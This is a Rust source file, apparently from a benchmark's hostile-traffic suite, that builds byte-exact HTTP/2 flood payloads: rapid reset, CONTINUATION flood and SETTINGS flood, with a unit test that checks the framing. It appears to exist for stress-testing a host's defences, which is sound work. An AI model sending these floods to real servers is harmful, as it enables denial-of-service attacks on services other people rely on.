//! Frames of HTTP/2 that cost the host work, although the client does not want an answer.
//!
//! Owns the bytes of these frames. Must not know how they are sent.

use crate::bench::hostile::attacks::Frames;

/// Connection preface of HTTP/2 and an empty SETTINGS frame: the first bytes that a client sends.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Number of times that a flood sends its frame, or its pair of frames. The host closes the
/// connection after a few hundred frames.
const FRAMES: u32 = 500;

/// Number of settings in a large SETTINGS frame. With 6 bytes each, they almost fill a frame of 16
/// KiB, which is the maximum size by default.
const SETTINGS: usize = 2700;

/// Types of frames (RFC 9113, section 6).
mod kind {
    pub(super) const HEADERS: u8 = 1;
    pub(super) const RST_STREAM: u8 = 3;
    pub(super) const SETTINGS: u8 = 4;
    pub(super) const CONTINUATION: u8 = 9;
}

const END_HEADERS: u8 = 4;

/// Returns all bytes that a connection of an attack with these frames sends: the connection preface
/// of HTTP/2, and then the frames.
pub fn bytes(frames: Frames) -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    match frames {
        Frames::Resets => {
            for number in 0..FRAMES {
                let stream = 2 * number + 1;
                // A header block of `POST /score` in HPACK: two indexes of the static table, then
                // the path and the authority as literals.
                let header = b"\x83\x86\x04\x06/score\x01\x01x";
                bytes.extend(frame(kind::HEADERS, END_HEADERS, stream, header));
                bytes.extend(frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8]));
            }
        }
        Frames::Continuations => {
            bytes.extend(frame(kind::HEADERS, 0, 1, b"\x83\x86\x84"));
            for _ in 0..FRAMES {
                bytes.extend(frame(kind::CONTINUATION, 0, 1, b"\0\x01a\x01b"));
            }
        }
        Frames::Settings => {
            let settings = [0, 3, 0, 0, 0, 100].repeat(SETTINGS);
            for _ in 0..FRAMES {
                bytes.extend(frame(kind::SETTINGS, 0, 0, &[]));
            }
            bytes.extend(frame(kind::SETTINGS, 0, 0, &settings));
        }
    }
    bytes
}

/// Returns the bytes of an HTTP/2 frame with this type, these flags, this stream and this payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // No payload here is longer than 16 KiB.
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_flood_consists_of_whole_frames() {
        for frames in [Frames::Resets, Frames::Continuations, Frames::Settings] {
            let bytes = bytes(frames);
            let mut rest = &bytes[24..];
            let mut count = 0;
            while let [a, b, c, _, _, _, _, _, _, ..] = rest {
                let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
                assert!(length <= 16 << 10, "{frames:?}");
                rest = &rest[9 + length..];
                count += 1;
            }
            assert!(rest.is_empty() && count > FRAMES, "{frames:?}");
        }
    }
}
